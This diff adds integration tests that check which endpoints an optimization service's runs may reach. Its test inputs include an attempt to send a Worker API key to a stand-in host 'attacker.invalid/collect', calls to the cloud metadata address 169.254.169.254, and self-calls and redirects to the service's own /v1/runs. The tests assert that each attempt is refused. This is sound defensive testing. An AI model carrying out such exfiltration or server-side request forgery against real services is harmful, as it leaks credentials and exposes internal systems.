@@ -5,6 +5,8 @@
  */
 import { spawnSync } from "node:child_process";
 import { readFileSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
 import { join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -14,13 +16,17 @@ import { createClient, runOptimization } from "../../src/index.js";
 import { tempDir } from "../helpers/temp.js";
 
 const ROOT = fileURLToPath(new URL("../..", import.meta.url));
+const WORKER_SECRET = "sk-worker-secret-never-for-runs-42";
 
 let service: LocalService;
 let url = "";
 
 beforeAll(async () => {
-  // The watchdog looks every 3 s, so the restart test does not wait long for the messages the stop lost.
-  service = await startLocalService({ vars: ["RUN_WATCHDOG_SECONDS:3"] });
+  // The watchdog looks every 3 s, so the restart test does not wait long for the messages the stop lost. Runs may
+  // call a team API on this machine (RUN_ALLOWED_HOSTS); OPENAI_API_KEY is a Worker var no run may read.
+  service = await startLocalService({
+    vars: ["RUN_WATCHDOG_SECONDS:3", "RUN_ALLOWED_HOSTS:127.0.0.1", `OPENAI_API_KEY:${WORKER_SECRET}`],
+  });
   url = service.url;
   expect(service.output()).toContain(`Convergence is running at ${url}`);
   expect(service.output()).toMatch(/API key \(from \.dev\.vars\): \S+/);
@@ -189,4 +195,131 @@ describe("optimization runs on npm start", () => {
     const local = await runOptimization({ configDict: config });
     expect(view.result).toMatchObject({ best_config: local.best_config, best_score: local.best_score, target_calls: local.target_calls });
   }, 180_000);
+});
+
+/** The team's API on this machine: answers like a chat completion, or redirects; records what it was sent. */
+async function teamApi(redirectTo: string) {
+  const seen: { path: string; run: string | undefined }[] = [];
+  const server: Server = createServer((request, response) => {
+    const path = request.url ?? "/";
+    seen.push({ path, run: request.headers["x-convergence-run"] as string | undefined });
+    request.resume();
+    if (path === "/redirect") {
+      response.writeHead(307, { location: redirectTo }).end();
+      return;
+    }
+    response.writeHead(200, { "content-type": "application/json" });
+    response.end(
+      JSON.stringify({ choices: [{ message: { content: "the capital is Tokyo" } }], usage: { prompt_tokens: 3, completion_tokens: 4 } }),
+    );
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as AddressInfo;
+  return { base: `http://127.0.0.1:${port}`, seen, close: () => new Promise((resolve) => server.close(resolve)) };
+}
+
+function teamConfig(api: Record<string, unknown>) {
+  return {
+    api: { name: "reach", request: { timeout_seconds: 5 }, ...api },
+    search_space: { parameters: { temperature: { type: "float", min: 0, max: 1, step: 0.5 } } },
+    evaluation: {
+      test_cases: { inline: [{ id: "capital", input: { prompt: "capital of Japan?" }, expected: { contains: ["Tokyo"] } }] },
+      metrics: { hit: { type: "contains", weight: 1 } },
+    },
+    optimization: { seed: 4, evolution: { population_size: 2, generations: 1 }, execution: { max_retries: 0 } },
+  };
+}
+
+describe("what a run on npm start may reach", () => {
+  async function post(config: unknown, headers: Record<string, string> = {}) {
+    const response = await fetch(`${url}/v1/runs`, {
+      method: "POST",
+      headers: { authorization: `Bearer ${service.key}`, "content-type": "application/json", ...headers },
+      body: JSON.stringify(config),
+    });
+    const text = await response.text();
+    return {
+      status: response.status,
+      text,
+      error: (JSON.parse(text) as { error: { code: string; message: string; details?: object[] } }).error,
+    };
+  }
+  const runCount = async () => (await createClient({ baseUrl: url, apiKey: service.key }).listRuns({ limit: 200 })).length;
+
+  async function finishedRun(runId: string) {
+    const client = createClient({ baseUrl: url, apiKey: service.key });
+    let view = await client.getRun(runId);
+    const deadline = Date.now() + 60_000;
+    while ((view.status === "running" || view.status === "queued") && Date.now() < deadline) {
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      view = await client.getRun(runId);
+    }
+    return view;
+  }
+
+  it("refuses to send a Worker secret to an attacker's host, naming RUN_SECRET_NAMES, and writes nothing", async () => {
+    const before = await runCount();
+    const refused = await post(
+      teamConfig({ endpoint: "https://attacker.invalid/collect", auth: { type: "bearer", token_env: "OPENAI_API_KEY" } }),
+    );
+    expect(refused.status).toBe(400);
+    expect(refused.error).toMatchObject({
+      code: "not_allowed_for_runs",
+      message:
+        "api.auth.token_env: OPENAI_API_KEY is not allowed for runs on this service: add it to the RUN_SECRET_NAMES var (comma-separated) to allow it",
+    });
+    expect(refused.text).not.toContain(WORKER_SECRET);
+    expect(await runCount()).toBe(before);
+  });
+
+  it("refuses a run whose target is the service itself (its own /v1/runs), or the metadata address, before any call", async () => {
+    const before = await runCount();
+    const own = await post(
+      teamConfig({
+        endpoint: `${url}/v1/runs`,
+        request: { headers: { authorization: `Bearer ${service.key}` }, body_template: teamConfig({ mock_mode: true }) },
+      }),
+    );
+    expect(own.status).toBe(400);
+    expect(own.error.details).toEqual([
+      {
+        path: "api.endpoint",
+        rule: "own_host",
+        message: `${url} is not allowed for runs on this service: it is this service's own host, and a run may not call the service itself; add ${url.slice(7)} to the RUN_ALLOWED_HOSTS var (comma-separated) to allow it anyway`,
+      },
+    ]);
+    const metadata = await post(teamConfig({ endpoint: "http://169.254.169.254/latest/meta-data" }));
+    expect(metadata.status).toBe(400);
+    expect(metadata.error.details).toEqual([expect.objectContaining({ path: "api.endpoint", rule: "metadata" })]);
+    expect(await runCount()).toBe(before);
+  });
+
+  it("refuses to start a run from a run's own request", async () => {
+    const before = await runCount();
+    const refused = await post(teamConfig({ mock_mode: true }), { "X-Convergence-Run": "some_run" });
+    expect(refused.status).toBe(403);
+    expect(refused.error.code).toBe("run_from_run");
+    expect(await runCount()).toBe(before);
+  });
+
+  it("calls an allowed team API on this machine, marking each call with the run id, and refuses its redirect to the service", async () => {
+    const team = await teamApi(`${url}/v1/runs`);
+    try {
+      const client = createClient({ baseUrl: url, apiKey: service.key });
+      const ok = await finishedRun((await client.startRun(teamConfig({ endpoint: `${team.base}/v1/answer` }))).run_id);
+      expect(ok.status).toBe("succeeded");
+      expect(ok.result).toMatchObject({ success: true, best_score: 1 });
+      expect(team.seen.length).toBeGreaterThan(0);
+      expect(team.seen.every((r) => r.path === "/v1/answer" && r.run === ok.run_id)).toBe(true);
+
+      const before = await runCount();
+      const redirected = await finishedRun((await client.startRun(teamConfig({ endpoint: `${team.base}/redirect` }))).run_id);
+      expect(redirected.status).toBe("failed");
+      expect(redirected.result?.error).toContain(`a redirect was refused: ${url} is not allowed for runs on this service`);
+      // The redirect was refused before it was followed: the service started no run of the run's.
+      expect(await runCount()).toBe(before + 1);
+    } finally {
+      await team.close();
+    }
+  });
 });
